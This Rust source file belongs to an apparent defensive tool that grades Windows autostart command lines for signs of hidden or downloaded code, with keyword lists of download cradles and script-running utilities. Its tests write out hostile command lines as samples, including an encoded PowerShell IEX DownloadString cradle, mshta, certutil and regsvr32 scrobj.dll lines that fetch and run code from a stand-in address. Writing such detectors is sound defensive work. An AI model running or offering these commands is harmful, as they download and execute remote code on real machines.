//! What a command line that starts by itself does: which files it runs and from where, and whether
//! it hides or fetches code.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;

use super::Grade;
use super::place::{Place, place, plain};

/// Longest command line looked at, in bytes: longer than Windows allows for a process (32,767).
const LONGEST: usize = 64 * 1024;

/// Most paths looked at in one part of a command line; real ones name two or three, and each is
/// read to its end.
const MOST_PATHS: usize = 32;

/// Shortest text after `-enc` that is taken for an encoded command.
const SHORTEST_ENCODED: usize = 16;

/// Words that fetch code from elsewhere, without blanks.
const FETCHES: [&str; 15] = [
    "iwrhttp",
    "irmhttp",
    "wgethttp",
    "curlhttp",
    "downloadstring",
    "downloadfile",
    "downloaddata",
    "invoke-webrequest",
    "invoke-restmethod",
    "start-bitstransfer",
    "-urlcache",
    "bitsadmin/transfer",
    "javascript:",
    "vbscript:",
    "scrobj.dll",
];

/// Those of them that administrators' scripts use as well: to report that they ran, to fetch data.
const ORDINARY: [&str; 8] = [
    "invoke-webrequest",
    "invoke-restmethod",
    "iwrhttp",
    "irmhttp",
    "wgethttp",
    "curlhttp",
    "start-bitstransfer",
    "bitsadmin/transfer",
];

/// Words that run text as code, without blanks.
const RUNS_TEXT: [&str; 5] =
    ["iex(", "|iex", "invoke-expression", "reflection.assembly", "frombase64string"];

/// Extensions of files that can be run.
const RUNNABLE: [&str; 16] = [
    "exe", "dll", "ps1", "bat", "cmd", "vbs", "vbe", "js", "jse", "wsf", "hta", "scr", "com",
    "sct", "psm1", "ocx",
];

/// Names of files and folders from intrusions on Exchange servers: `ProgramData\VSPerfMon`
/// (SigmaHQ), `Users\Public\opera` (the MSTIC feed of March 2021).
const SEEN_IN_INTRUSIONS: [&str; 2] = ["programdata\\vsperfmon", "opera\\opera_browser.exe"];

/// What a command line shows; `None` if nothing.
pub(crate) fn judge(line: &str) -> Option<(Grade, String)> {
    let line = &line[..line.floor_char_boundary(LONGEST)];
    let lower: String =
        line.to_lowercase().chars().filter(|letter| !matches!(letter, '^' | '`')).collect();
    if let Some(found) = SEEN_IN_INTRUSIONS.iter().find(|name| plain(&lower).contains(*name)) {
        let why = format!("It runs {found}, which intruders on Exchange servers used.");
        return Some((Grade::Certain, why));
    }
    let hidden = encoded(line);
    let text = hidden.as_deref().unwrap_or(&lower).to_lowercase();
    let dense: String = text.chars().filter(|letter| !letter.is_whitespace()).collect();
    let outer: String = lower.chars().filter(|letter| !letter.is_whitespace()).collect();
    let has = |words: &[&'static str]| {
        words.iter().find(|word| dense.contains(**word) || outer.contains(**word)).copied()
    };
    let web = dense.contains("http://") || dense.contains("https://");
    let fetches =
        has(&FETCHES).or_else(|| web.then_some("mshta").filter(|_| outer.contains("mshta")));
    let runs = has(&RUNS_TEXT);
    match (hidden.is_some(), fetches, runs) {
        (true, Some(word), _) if runs.is_some() || !ORDINARY.contains(&word) => {
            return Some((
                Grade::Certain,
                format!("It hides an encoded command that uses {word}."),
            ));
        }
        (false, Some(word), Some(_)) => {
            return Some((Grade::Likely, format!("It fetches code ({word}) and runs it.")));
        }
        (true, _, _) => {
            return Some((
                Grade::Likely,
                "It hides what it runs in an encoded command.".to_owned(),
            ));
        }
        (false, Some(word), None) if ORDINARY.contains(&word) => {
            let look = (Grade::Look, format!("It fetches something ({word})."));
            return Some(worst_file(&lower).filter(|own| own.0 > Grade::Look).unwrap_or(look));
        }
        (false, Some(word), None) => {
            return Some((Grade::Likely, format!("It fetches something to run ({word}).")));
        }
        (false, None, Some("frombase64string")) => {
            return Some((Grade::Likely, "It hides what it runs in encoded text.".to_owned()));
        }
        _ => {}
    }
    worst_file(&lower)
}

/// The most doubtful of the files that a command line names.
fn worst_file(lower: &str) -> Option<(Grade, String)> {
    let graded = files(lower).into_iter().chain(given(lower)).filter_map(|file| {
        let at = place(&file);
        let grade = match at {
            Place::Reserved => Grade::Certain,
            Place::Public | Place::Temp | Place::ProgramDataRoot | Place::WebRoot => Grade::Likely,
            Place::Share => Grade::Look,
            // Agents and updaters of products live in all others.
            _ => return None,
        };
        Some((grade, format!("It runs {file}, which lies {}.", at.words())))
    });
    graded.max_by_key(|(grade, _)| *grade)
}

/// The runnable files with a full path that a command line names.
fn files(lower: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut add = |text: &str| {
        let text = text.trim_matches(|letter| matches!(letter, '"' | '\'' | ',' | ';' | '(' | ')'));
        let path = plain(text);
        let name = path.rsplit('\\').next().unwrap_or("");
        let runnable = name.rsplit_once('.').is_some_and(|(_, end)| {
            RUNNABLE.contains(&end.split([',', '#']).next().unwrap_or(end))
        });
        if runnable && path.contains('\\') {
            found.push(path);
        }
    };
    // An unquoted path with blanks goes on to its extension, as Windows reads it.
    for part in lower.split(['"', '\'']) {
        let starts = part.match_indices(":\\").map(|(at, _)| at.saturating_sub(1));
        let mut rest: Vec<usize> = starts.take(MOST_PATHS).collect();
        rest.extend(part.match_indices(['%', '\\']).map(|(at, _)| at).take(1));
        for at in rest {
            let Some(path) = part.get(at..) else { continue };
            let end = RUNNABLE
                .iter()
                .filter_map(|end| ends_at(path, end))
                .min()
                .unwrap_or_else(|| path.find(' ').unwrap_or(path.len()));
            add(&path[..end]);
        }
    }
    found
}

/// Programs that run the file they are given, whatever it is called
/// (<https://lolbas-project.github.io>).
const RUN_ANY_FILE: [&str; 10] = [
    "wscript",
    "cscript",
    "mshta",
    "msbuild",
    "installutil",
    "regasm",
    "regsvcs",
    "regsvr32",
    "rundll32",
    "cmstp",
];

/// The first file that such a program is given; `None` if there is none with a full path.
fn given(lower: &str) -> Option<String> {
    let ends = RUN_ANY_FILE.iter().filter_map(|name| Some(lower.find(name)? + name.len()));
    let rest = lower.get(ends.min()?..)?;
    let drive = rest.find(":\\")?.checked_sub(1)?;
    let quote = drive.checked_sub(1).and_then(|at| rest.get(at..drive));
    let path = rest.get(drive..)?;
    let is_end = |letter: char| match quote {
        Some("\"") => letter == '"',
        Some("'") => letter == '\'',
        _ => letter.is_whitespace() || matches!(letter, ',' | '"'),
    };
    let path = plain(&path[..path.find(is_end).unwrap_or(path.len())]);
    // A folder (of a log, of a job) is nothing to run.
    path.rsplit('\\').next()?.contains('.').then_some(path)
}

/// Where the first name with this extension ends.
fn ends_at(path: &str, extension: &str) -> Option<usize> {
    let mark = format!(".{extension}");
    path.match_indices(&mark).map(|(at, _)| at + mark.len()).find(|end| {
        path[*end..]
            .chars()
            .next()
            .is_none_or(|next| !next.is_alphanumeric() && next != '.' && next != '\\')
    })
}

/// The text of a command that PowerShell was given in Base64; `None` if there is none.
fn encoded(line: &str) -> Option<String> {
    let lower = line.to_lowercase();
    if !lower.contains("powershell") && !lower.contains("pwsh") {
        return None;
    }
    let mut words = line.split_whitespace();
    while let Some(word) = words.next() {
        let name = word.trim_start_matches(['-', '/', '"']).to_lowercase();
        // PowerShell takes any beginning of the parameter's name, and `ec`.
        let is_parameter = word.starts_with(['-', '/'])
            && (name == "ec" || (!name.is_empty() && "encodedcommand".starts_with(&name)));
        if !is_parameter {
            continue;
        }
        let text = words.clone().next().unwrap_or("").trim_matches(['"', '\'']);
        if text.len() < SHORTEST_ENCODED {
            continue;
        }
        if let Ok(bytes) = STANDARD.decode(text) {
            let units = bytes.as_chunks::<2>().0.iter().map(|pair| u16::from_le_bytes(*pair));
            return Some(char::decode_utf16(units).map(|one| one.unwrap_or('\u{fffd}')).collect());
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn encode(text: &str) -> String {
        let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        STANDARD.encode(bytes)
    }

    #[test]
    fn what_products_start_is_quiet() {
        for line in [
            "C:\\Program Files\\Vendor Agent\\agent.exe -service",
            "\"C:\\Program Files (x86)\\Backup\\b.exe\" /run",
            "%SystemRoot%\\system32\\svchost.exe -k netsvcs -p",
            "\\SystemRoot\\System32\\drivers\\x.sys",
            "C:\\ProgramData\\Vendor\\Updater\\update.exe --silent",
            "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe\"",
            "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\rotate-logs.ps1",
            "powershell.exe -EncodedCommand short",
            "cscript.exe //B C:\\Scripts\\report.vbs /out:C:\\Windows\\Temp\\report.txt",
            "MSBuild.exe C:\\Build\\site.proj /flp:logfile=C:\\Temp\\build.log",
            "D:\\Exchange\\Bin\\MSExchangeHMHost.exe",
            "C:\\Windows\\system32\\cmd.exe /c del C:\\Windows\\Temp\\*.log",
            "%windir%\\system32\\rundll32.exe advapi32.dll,ProcessIdleTasks",
            "",
        ] {
            assert_eq!(judge(line), None, "{line}");
        }
    }

    #[test]
    fn hidden_and_fetched_code_is_seen() {
        let fetch = encode("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')");
        let plain = encode("Get-Process | Out-Null; Start-Sleep 3");
        for (line, wanted) in [
            (format!("powershell -w hidden -enc {fetch}"), Grade::Certain),
            (format!("powershell.exe -e {plain}"), Grade::Likely),
            (
                "powershell -c \"i`ex (iwr http://192.0.2.1/a); Invoke-WebRequest\"".into(),
                Grade::Likely,
            ),
            ("powershell -c \"Invoke-WebRequest https://status.example/ran\"".into(), Grade::Look),
            ("mshta.exe http://192.0.2.1/a.hta".into(), Grade::Likely),
            ("cmd /c p^o^wershell -c ie^x (iwr http://192.0.2.1/a)".into(), Grade::Likely),
            ("powershell -c iwr http://status.example/ran".into(), Grade::Look),
            ("certutil -urlcache -f http://192.0.2.1/a a.exe".into(), Grade::Likely),
            ("regsvr32 /s /n /u /i:http://192.0.2.1/a scrobj.dll".into(), Grade::Likely),
        ] {
            assert_eq!(judge(&line).map(|own| own.0), Some(wanted), "{line}");
        }
    }

    #[test]
    fn a_line_of_nothing_but_paths_ends() {
        assert_eq!(judge(&"é:\\".repeat(40_000)), None);
    }

    #[test]
    fn files_in_places_for_everybody_are_seen() {
        for (line, wanted) in [
            ("C:\\Users\\Public\\a.exe", Grade::Likely),
            ("cmd /c \"C:\\Windows\\Temp\\x y.bat\" arg", Grade::Likely),
            ("rundll32.exe C:\\ProgramData\\a.dll,Start", Grade::Likely),
            ("wscript.exe //B C:\\Temp\\run.vbs", Grade::Likely),
            ("%TEMP%\\a.exe", Grade::Likely),
            ("C:\\inetpub\\wwwroot\\aspnet_client\\a.exe", Grade::Likely),
            ("wscript.exe //E:vbscript C:\\ProgramData\\u.txt", Grade::Likely),
            ("MSBuild.exe \"C:\\Users\\Public\\a b.xml\" /nologo", Grade::Likely),
            ("C:\\PROGRA~3\\a.exe", Grade::Likely),
            ("C:\\ProgramData\\COM1\\a.exe", Grade::Certain),
            ("C:\\ProgramData\\VSPerfMon\\w.exe", Grade::Certain),
            ("C:\\Users\\Public\\opera\\Opera_browser.exe", Grade::Certain),
        ] {
            assert_eq!(judge(line).map(|own| own.0), Some(wanted), "{line}");
        }
    }
}
